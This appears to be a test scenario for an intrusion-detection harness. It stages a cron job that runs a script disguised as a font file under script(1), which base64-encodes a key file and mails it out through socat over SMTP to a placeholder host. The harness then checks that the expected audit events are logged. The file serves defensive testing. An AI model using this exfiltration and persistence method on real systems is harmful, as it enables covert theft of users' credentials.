# script(1) makes a terminal for a job that has none.
title="socat speaks SMTP to port 25 under script(1), from a user crontab"
what="A crontab line of intern runs script -qc, so that the job has a terminal of its own. In it a renamed shell script feeds a message with an encoded key file to socat, which connects to 203.0.113.25 port 25."
host=ws3.example.org user=intern daemons="cron" audit_format=RAW

setup() {
  mkdir -p /home/intern/.fonts; head -c 3000 /dev/urandom > /home/intern/id.p12
  printf '#!/bin/sh\nfor l in "HELO ws3" "MAIL FROM:<a%%s@example.org>" "RCPT TO:<box@example.com>" DATA "Subject: f" "" "$(base64 $HOME/id.p12)" . QUIT; do sleep 0.5; printf "%%s\\r\\n" "$l"; done | socat - TCP4:smtp.example.com:25\n' > /home/intern/.fonts/index
  chmod 755 /home/intern/.fonts/index; chown -R intern: /home/intern/.fonts /home/intern/id.p12
  printf '* * * * * script -qc $HOME/.fonts/index /dev/null >/dev/null 2>&1\n' > "$base/out/crontab"
}
act() {
  small_talk 2
  crontab -u intern "$base/out/crontab"
  for _ in $(seq 1 150); do grep -q 'script -qc' /var/log/recorded && break; sleep 0.5; done
  sleep 8
  crontab -u intern -r
  small_talk 1
}
truth() {
  log_step job 'CRON.*CMD.*script -qc' 'cron starts the job'
  exec_step terminal 'script -qc' 'script gives it a terminal'
  exec_step encode 'base64 /home/intern/id.p12' 'a key file is encoded'
  net_step connect 'socat 203.0.113.25:25' 'socat speaks SMTP'
}
